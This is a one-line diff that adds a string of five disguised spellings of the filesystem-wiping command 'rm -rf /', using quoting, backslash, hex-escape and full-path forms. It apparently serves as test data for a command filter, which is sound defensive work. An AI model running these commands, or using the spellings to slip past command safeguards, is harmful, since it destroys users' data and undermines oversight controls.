@@ -1,0 +1,1 @@
+r"m" -rf / ; \rm -rf / ; 'rm' -rf / ; $'\x72m' -rf / ; /bin/rm -rf /
